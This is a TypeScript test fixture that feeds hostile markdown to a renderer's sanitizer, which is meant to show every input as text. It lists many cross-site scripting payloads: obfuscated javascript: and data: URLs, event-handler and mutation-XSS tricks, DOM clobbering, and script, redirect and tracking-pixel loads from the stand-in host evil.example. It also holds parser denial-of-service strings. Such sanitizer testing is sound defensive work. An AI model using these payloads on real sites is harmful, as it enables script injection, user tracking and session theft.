/** Markdown that tries to run something, request something, or pass for a part of the page: each must be shown as text. */

const JS = "window.pwned=1"

const addresses = [
  `javascript:${JS}`, `JaVaScRiPt:${JS}`, ` javascript:${JS}`, `\u0001javascript:${JS}`, `java\tscript:${JS}`, `java&#10;script:${JS}`,
  `java&NewLine;script&colon;${JS}`, `&#106;avascript:${JS}`, `&#x6A;&#x61;vascript:${JS}`, `javascript&#58;${JS}`, `javascript&colon;${JS}`,
  `vbscript:${JS}`, `data:text/html,<script>${JS}</script>`, "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
  "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", `data:image/svg+xml,<svg onload=${JS}>`, "data:image/png,<script>", "data:image/png;base64,", "data:image/png;base64,A%22x",
  "data:image/png;charset=x;base64,iVBO", "DATA:text/html;base64,PHNj", "data:\timage/png;base64,iVBO", "data:image/png;base64,iV BO", " data:image/svg+xml;base64,PHN2", "data:image/png,text/html;base64,PHNj",
  `feed:javascript:${JS}`, `view-source:javascript:${JS}`, `blob:https://evil.example/x`, `filesystem:https://evil.example/x`,
  `javascript://%0a${JS}`, `jar:javascript:${JS}!/`, `\u2028javascript:${JS}`, "/.//evil.example/", "/_svc/gate/share?t=x", "/_SVC/gate", "/%5fsvc/gate"
]

const attributes = addresses.flatMap((address) => [`[link](<${address}>)`, `<a href="${address}">raw</a>`, `![image](<${address}>)`, `<img src="${address}">`])

const pieces = [
  `<script>${JS}</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<script/x>${JS}</script>`, `<<script>${JS}//<</script>`,
  `<img src=x onerror=${JS}>`, `<img src="/none.png" onerror="${JS}">`, `<img/src=x/onerror=${JS}>`, `<body onload=${JS}>`, `<svg onload=${JS}>`,
  `<svg><script>${JS}</script></svg>`, `<svg><a xlink:href="javascript:${JS}"><text>x</text></a></svg>`, `<svg><animate onbegin=${JS} attributeName=x dur=1s>`,
  `<svg><style><img src=x onerror=${JS}></style></svg>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${JS}&gt;">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${JS}></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${JS}>`,
  `<noscript><p title="</noscript><img src=x onerror=${JS}>">`, `<template><img src=x onerror=${JS}></template>`,
  `<template><template><script>${JS}</script></template></template>`, `<xmp><img src=x onerror=${JS}></xmp>`, `<textarea><img src=x onerror=${JS}></textarea>`,
  `<title><img src=x onerror=${JS}></title>`, `<noembed><img src=x onerror=${JS}></noembed>`, `<!--><img src=x onerror=${JS}>-->`,
  `<!--!><img src=x onerror=${JS}>`, `<!-- --!><img src=x onerror=${JS}> -->`, `<![CDATA[<img src=x onerror=${JS}>]]>`, `<?php <img src=x onerror=${JS}> ?>`,
  `<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>body{display:none}@import url(https://evil.example/)</style>`, `<p style="position:fixed;inset:0;background:url(https://evil.example/)">over</p>`,
  `<iframe srcdoc="<script>parent.${JS}</script>"></iframe>`, `<iframe src="javascript:parent.${JS}"></iframe>`, `<object data="javascript:${JS}"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${JS}>">`, `<form action="https://evil.example/"><input name=q><button formaction="javascript:${JS}">Go</button></form>`,
  `<input autofocus onfocus=${JS}>`, `<select autofocus onfocus=${JS}><option>x</select>`, `<details open ontoggle=${JS}><summary>x</summary></details>`,
  `<video src=x onerror=${JS}><source onerror=${JS}></video>`, `<audio src=x onerror=${JS}>`, `<marquee onstart=${JS}>x</marquee>`,
  `<a id=location name=location href=x>clobber</a>`, `<a id=stage></a><a id=comments></a><a id=document></a><p id=__proto__>x</p>`,
  `<form id=test><input name=attributes></form>`, `<img name=getElementById>`, `<a href="https://evil.example" target=_top ping="https://evil.example/">top</a>`,
  `<img src="https://evil.example/track.png" alt="seen">`, `<picture><source srcset="https://evil.example/a.png"><img src="https://evil.example/b.png"></picture>`,
  `![seen](https://evil.example/track.png)`, `![seen](//evil.example/track.png)`, `![seen](http://127.0.0.1:1/track.png)`, `![][r]\n\n[r]: https://evil.example/r.png`,
  `<img srcset="https://evil.example/c.png 2x" src="https://evil.example/d.png">`, `<p background="https://evil.example/">x</p>`,
  `<table background="https://evil.example/"><tr><td background="https://evil.example/" onclick=${JS}>x</td></tr></table>`,
  `<div itemscope contenteditable class="sheet bar" role="dialog" aria-hidden=true data-svc=x>x</div>`, `[x](https://evil.example "\\" onmouseover=${JS} x=\\"")`,
  "```js onload=x\n</code></pre><img src=x onerror=window.pwned=1>\n```", "```<img/src=x/onerror=window.pwned=1>\nx\n```",
  `[^<img src=x onerror=${JS}>]\n\n[^<img src=x onerror=${JS}>]: note`, `| <img src=x onerror=${JS}> |\n|--|\n| <script>${JS}</script> |`,
  `# <img src=x onerror=${JS}> heading`, `<h2 id="x" onclick=${JS}>h</h2>`, `<dialog open>over</dialog><button popovertarget=x>b</button>`, `<slot><portal src=x></portal></slot>`,
  `<plaintext><img src=x onerror=${JS}>`
]

/** The last one swallows everything after it. */
export const hostile: ReadonlyArray<string> = [...attributes, ...pieces]

export const endless: Readonly<Record<string, string>> = {
  "nested quotes": `${">".repeat(10_000)} x`,
  "nested lists": `${"- ".repeat(10_000)}x`,
  "nested elements": "<div>".repeat(20_000),
  "a million brackets": "[".repeat(1_000_000),
  "a million backticks": "`".repeat(1_000_000),
  "a table of many rows": `|a|b|\n|-|-|\n${"|1|2|\n".repeat(40_000)}`,
  "unfinished links": "[a](".repeat(50_000),
  "stars that never close": "*a_ ".repeat(60_000)
}

/** Small, and takes the parser longer than it is allowed. */
export const slow = "a\n=\n".repeat(20_000)
